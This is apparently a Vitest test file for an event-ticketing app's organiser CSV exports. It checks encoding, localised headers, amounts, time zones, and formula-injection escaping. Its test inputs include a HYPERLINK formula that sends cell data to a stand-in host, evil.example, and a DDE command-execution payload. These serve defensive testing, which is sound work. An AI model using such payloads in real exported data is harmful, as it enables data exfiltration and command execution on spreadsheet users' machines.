import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { createTranslator } from 'next-intl';
import en from '@/messages/en.json';
import fr from '@/messages/fr.json';
import {
  isoIn,
  MEMBER_COLUMNS,
  membersCsv,
  PURCHASE_COLUMNS,
  purchasesCsv,
  SPECTATOR_COLUMNS,
  spectatorsCsv,
  type TMemberExportRow,
  type TPurchaseExportRow,
  type TSpectatorExportRow,
} from '@/lib/organiser/exports';

/**
 * The organiser's CSV exports (docs/decisions/056) without a database: UTF-8 with a byte order
 * mark and CRLF like the results export, one header per column in the organiser's language, the
 * same number of cells in every row, amounts as plain decimals, times in the event's time zone
 * with its offset, and every cell a spreadsheet would run as a formula (a buyer who names
 * themselves "=HYPERLINK(…)") made inert with an apostrophe.
 */

const tOf = (messages: typeof en) => {
  const t = createTranslator({ locale: 'en', messages: { csv: messages.OrganiserPurchases.csv }, namespace: 'csv' });
  return (key: string) => t(key as 'yes');
};
const parse = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

const EVIL = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', '+41 22 555 0000', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=cmd|\'/c calc\'!A1'];
const ZONE = 'America/Toronto';
const PAID = new Date('2026-06-14T12:30:00Z');

const spectator = (firstName: string, lastName: string, overrides: Partial<TSpectatorExportRow> = {}): TSpectatorExportRow => ({
  eventId: 4,
  ticketNumber: 12,
  firstName,
  lastName,
  isMinor: false,
  isBuyer: true,
  purchaseId: 7,
  buyerName: `${firstName} ${lastName}`,
  buyerEmail: 'buyer@example.org',
  waiverStatus: 'signed',
  waiverAt: PAID,
  waiverVersion: 2,
  checkedInAt: null,
  gateLabel: null,
  ...overrides,
});

describe('organiser exports (CSV)', () => {
  it('starts with a byte order mark, ends lines with CRLF, and names every column in the organiser’s language', () => {
    const csv = spectatorsCsv([spectator('Renée', 'Lévesque')], { t: tOf(fr), timeZone: ZONE });
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('\r\n');
    const [header, row] = parse(csv);
    expect(header).toEqual(SPECTATOR_COLUMNS.map((c) => (fr.OrganiserPurchases.csv.spectators as Record<string, string>)[c]));
    expect(row).toEqual(['4-00012', 'Renée', 'Lévesque', 'non', 'oui', '7', 'Renée Lévesque', 'buyer@example.org', 'signée', '2026-06-14T08:30:00-04:00', '2', 'non', '', '']);
  });

  it('makes every formula-like cell inert, whatever column it is in', () => {
    const rows = EVIL.map((evil) => spectator(evil, evil, { buyerEmail: evil, gateLabel: evil, checkedInAt: PAID }));
    const parsed = parse(spectatorsCsv(rows, { t: tOf(en), timeZone: ZONE }));
    for (const [i, evil] of EVIL.entries()) {
      const cells = parsed[i + 1]!;
      for (const index of [1, 2, 7, 13]) {
        expect(cells[index]!.startsWith("'"), `${JSON.stringify(evil)} in column ${index}`).toBe(true);
        expect(cells[index]!.slice(1)).toBe(evil);
      }
    }
    // Text that only looks like a signed number stays as it is (a spreadsheet runs nothing in it).
    const plain = parse(spectatorsCsv([spectator('-5', 'O’Neil')], { t: tOf(en), timeZone: ZONE }))[1]!;
    expect(plain.slice(1, 3)).toEqual(['-5', 'O’Neil']);
  });

  it('writes the accounting file with plain decimal amounts, the provider’s ids and what was refunded', () => {
    const row: TPurchaseExportRow = {
      purchase: {
        id: 31,
        eventId: 4,
        promoterId: 1,
        buyerAccountId: 9,
        status: 'paid',
        quantity: 2,
        unitPriceCents: 2500,
        subtotalCents: 7500,
        discountCents: 750,
        taxRateBp: 1498,
        taxCents: 1011,
        totalCents: 7761,
        totalPaidCents: 7761,
        currency: 'CAD',
        promoCodeId: 1,
        promoCode: '=PROMO',
        paymentProvider: 'stripe',
        checkoutSessionId: 'cs_test_1',
        paymentTransactionId: 'pi_1',
        reservationExpiresAt: null,
        locale: 'fr',
        paidAt: PAID,
        createdAt: new Date('2026-06-14T12:00:00Z'),
        updatedAt: PAID,
      },
      buyerName: '@Sam Rivera',
      buyerEmail: 'sam@example.org',
      ticketsBought: 3,
      refundedCents: 2587,
      pendingRefundCents: 100,
      refundIds: ['re_1', 're_2'],
    };
    const [header, cells] = parse(purchasesCsv([row], { t: tOf(en), timeZone: ZONE }));
    expect(header).toHaveLength(PURCHASE_COLUMNS.length);
    expect(cells).toHaveLength(PURCHASE_COLUMNS.length);
    const value = (column: (typeof PURCHASE_COLUMNS)[number]) => cells![PURCHASE_COLUMNS.indexOf(column)];
    expect(value('status')).toBe('paid');
    expect(value('paidAt')).toBe('2026-06-14T08:30:00-04:00');
    expect(value('buyerName')).toBe("'@Sam Rivera");
    expect(value('promoCode')).toBe("'=PROMO");
    expect([value('ticketsBought'), value('ticketsHeld')]).toEqual(['3', '2']);
    expect([value('unitPrice'), value('subtotal'), value('discount'), value('taxRate'), value('tax'), value('total'), value('paid')]).toEqual(['25.00', '75.00', '7.50', '14.98', '10.11', '77.61', '77.61']);
    expect([value('refunded'), value('refundPending'), value('net')]).toEqual(['25.87', '1.00', '51.74']);
    expect([value('provider'), value('checkoutSession'), value('paymentId'), value('refundIds')]).toEqual(['stripe', 'cs_test_1', 'pi_1', 're_1 re_2']);
  });

  it('lists members with their state on the day, their type in the organiser’s language', () => {
    const member = (number: string, validFrom: string, validUntil: string): TMemberExportRow => ({
      id: 1,
      offerId: 1,
      rangeId: 1,
      organizationId: 1,
      holderAccountId: 3,
      buyerAccountId: 3,
      riderId: null,
      firstName: '=Alex',
      lastName: 'Tremblay',
      city: 'Sudbury',
      state: 'ON',
      className: null,
      memberNumber: number,
      validFrom,
      validUntil,
      paymentState: 'paid',
      isPublic: true,
      feeCents: 12500,
      taxCents: 1625,
      currency: 'CAD',
      paymentProvider: 'test',
      checkoutSessionId: null,
      paymentTransactionId: null,
      reservationExpiresAt: null,
      locale: 'en',
      paidAt: PAID,
      createdAt: PAID,
      updatedAt: PAID,
      typeName: { en: 'Annual licence', fr: 'Licence annuelle' },
      rangeName: { en: 'Adult' },
      holderEmail: 'alex@example.org',
      buyerEmail: null,
    });
    const rows = [member('OORRA-0001', '2026-01-01', '2026-12-31'), member('OORRA-0002', '2025-01-01', '2025-12-31'), member('OORRA-0003', '2026-07-01', '2027-06-30')];
    const parsed = parse(membersCsv(rows, { t: tOf(fr), locale: 'fr', timeZone: ZONE, today: '2026-06-14' }));
    expect(parsed[0]).toHaveLength(MEMBER_COLUMNS.length);
    const state = MEMBER_COLUMNS.indexOf('state');
    expect(parsed.slice(1).map((r) => r[state])).toEqual(['valide', 'expirée', 'à venir']);
    expect(parsed[1]!.slice(0, 5)).toEqual(['OORRA-0001', "'=Alex", 'Tremblay', 'Licence annuelle', 'Adult']);
    expect(parsed[1]![MEMBER_COLUMNS.indexOf('fee')]).toBe('125.00');
    expect(parsed[1]![MEMBER_COLUMNS.indexOf('email')]).toBe('alex@example.org');
  });

  it('writes times in the event’s zone with its offset, winter and summer', () => {
    expect(isoIn(new Date('2026-01-15T17:00:00Z'), ZONE)).toBe('2026-01-15T12:00:00-05:00');
    expect(isoIn(new Date('2026-07-15T16:00:00Z'), ZONE)).toBe('2026-07-15T12:00:00-04:00');
    expect(isoIn(null, ZONE)).toBe('');
  });
});
